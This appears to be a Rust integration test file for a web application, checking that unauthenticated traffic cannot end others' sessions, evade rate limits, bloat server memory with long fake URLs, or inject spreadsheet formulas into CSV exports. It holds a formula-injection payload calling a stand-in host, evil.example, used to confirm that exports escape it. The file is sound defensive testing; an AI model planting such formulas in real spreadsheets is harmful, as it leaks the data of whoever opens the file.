//! Hostile traffic: what anyone on the internet can send without signing
//! in must not end someone else's work, grow the server's memory, forge
//! the address it throttles and records, or slip formulas into
//! spreadsheets.

use reqwest::StatusCode;

use crate::scenarios::{invited, links_in, sign_in_with};

#[tokio::test]
async fn asking_for_a_new_link_ends_no_ones_work() {
    let (app, mailbox, _editor, links) = invited("ask", 1, 1).await;
    let rep = sign_in_with(&app, &links[0][0]).await;

    // Someone else types the representative's address, three times.
    let stranger = app.browser();
    for _ in 0..3 {
        let page = stranger
            .submit("/respond/link", &[("email", "p0@ask-c0.example.org")])
            .await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    }
    app.jobs()
        .run_once(answerable::domain::time::now())
        .await
        .unwrap();

    // The representative's open session and first link go on working.
    let start = rep.get("/respond").await;
    assert_eq!(start.status, StatusCode::OK, "{}", start.body);
    let saved = crate::scenarios::save(
        &rep,
        "due-diligence",
        &[("a.hrdd-process".into(), "Still signed in.".into())],
    )
    .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    assert_eq!(app.browser().get(&links[0][0]).await.status, StatusCode::OK);

    // The new links arrived, and say the earlier one still works.
    let new_links: Vec<_> = mailbox
        .sent()
        .into_iter()
        .filter(|m| m.subject.to_lowercase().contains("new link"))
        .collect();
    assert_eq!(new_links.len(), 3);
    assert!(new_links[0].text.contains("Your earlier link works too."));
    let fresh = links_in(&app, &new_links[2].text).remove(0);
    sign_in_with(&app, &fresh).await;
    assert_eq!(rep.get("/respond").await.status, StatusCode::OK);
    app.assert_outbox_settled(0);
}

#[tokio::test]
async fn one_client_may_ask_for_links_only_so_often() {
    let (app, _mailbox, _editor, _links) = invited("often", 1, 1).await;
    let script = app.browser();
    for n in 0..10 {
        let page = script
            .submit(
                "/respond/link",
                &[("email", &format!("guess{n}@often-c0.example.org"))],
            )
            .await;
        assert_eq!(page.status, StatusCode::OK, "request {n}: {}", page.body);
    }
    let refused = script
        .submit("/respond/link", &[("email", "p0@often-c0.example.org")])
        .await;
    assert_eq!(refused.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.header("retry-after").is_some());
    app.assert_outbox_settled(0);
}

/// Asks for `count` made-up campaign addresses of 4 KB each, 16 at a time.
async fn made_up_slugs(served: &crate::served::Served, from: usize, count: usize) {
    use futures_util::stream::{self, StreamExt};
    let client = reqwest::Client::new();
    let filler = "x".repeat(4000);
    stream::iter(from..from + count)
        .for_each_concurrent(16, |n| {
            let url = format!("{}/campaigns/{n}-{filler}", served.address);
            let client = client.clone();
            async move {
                let status = client.get(url).send().await.unwrap().status();
                assert_eq!(status, StatusCode::NOT_FOUND);
            }
        })
        .await;
}

#[tokio::test]
async fn made_up_addresses_do_not_grow_the_servers_memory() {
    let served = crate::served::Served::start(&[]).await;
    made_up_slugs(&served, 0, 2_000).await;
    let before = served.resident_kib();
    made_up_slugs(&served, 2_000, 20_000).await;
    let grown = served.resident_kib().saturating_sub(before);
    assert!(
        grown < 5 * 1024,
        "20,000 made-up addresses grew the server by {grown} KiB"
    );
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";

#[tokio::test]
async fn csv_for_spreadsheets_carries_no_formulas() {
    use answerable::db::schema::companies;
    use diesel::prelude::*;
    let (app, _mailbox, editor, _links) = invited("formula", 1, 1).await;
    diesel::update(companies::table)
        .set(companies::name.eq(FORMULA))
        .execute(&mut app.conn())
        .unwrap();
    let neutral = format!("'{FORMULA}");
    let first_cell = |csv: &str| -> String {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        row[0].to_string()
    };

    let directory = editor.get("/admin/companies/export.csv").await;
    assert_eq!(directory.status, StatusCode::OK);
    assert_eq!(first_cell(&directory.body), neutral);
    let targets = editor.get("/admin/campaigns/formula/targets.csv").await;
    assert_eq!(targets.status, StatusCode::OK);
    assert_eq!(first_cell(&targets.body), neutral);

    // Exported and imported again, the name is as it was.
    let records = answerable::domain::directory_csv::parse(directory.body.as_bytes()).unwrap();
    assert_eq!(records[0].name, FORMULA);

    let closed = editor
        .submit("/admin/campaigns/formula/state", &[("to", "closed")])
        .await;
    assert_eq!(closed.status, StatusCode::OK, "a confirmation first");
    let closed = crate::scenarios::close(&editor, "formula").await;
    assert_eq!(closed.status, StatusCode::SEE_OTHER, "{}", closed.body);
    let published = editor
        .submit(
            "/admin/campaigns/formula/publish",
            &[("note", "First"), ("confirm", "yes")],
        )
        .await;
    assert_eq!(
        published.status,
        StatusCode::SEE_OTHER,
        "{}",
        published.body
    );
    let public = app.browser().get("/campaigns/formula/scorecard.csv").await;
    assert_eq!(public.status, StatusCode::OK);
    assert_eq!(first_cell(&public.body), neutral);
    // Scores stay numbers: the total column of a company that did not respond.
    let mut reader = csv::Reader::from_reader(public.body.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let total = headers.iter().position(|h| h == "total").unwrap();
    let row = reader.records().next().unwrap().unwrap();
    assert!(row[total].parse::<f64>().is_ok(), "{:?}", &row[total]);
    app.assert_outbox_settled(0);
}
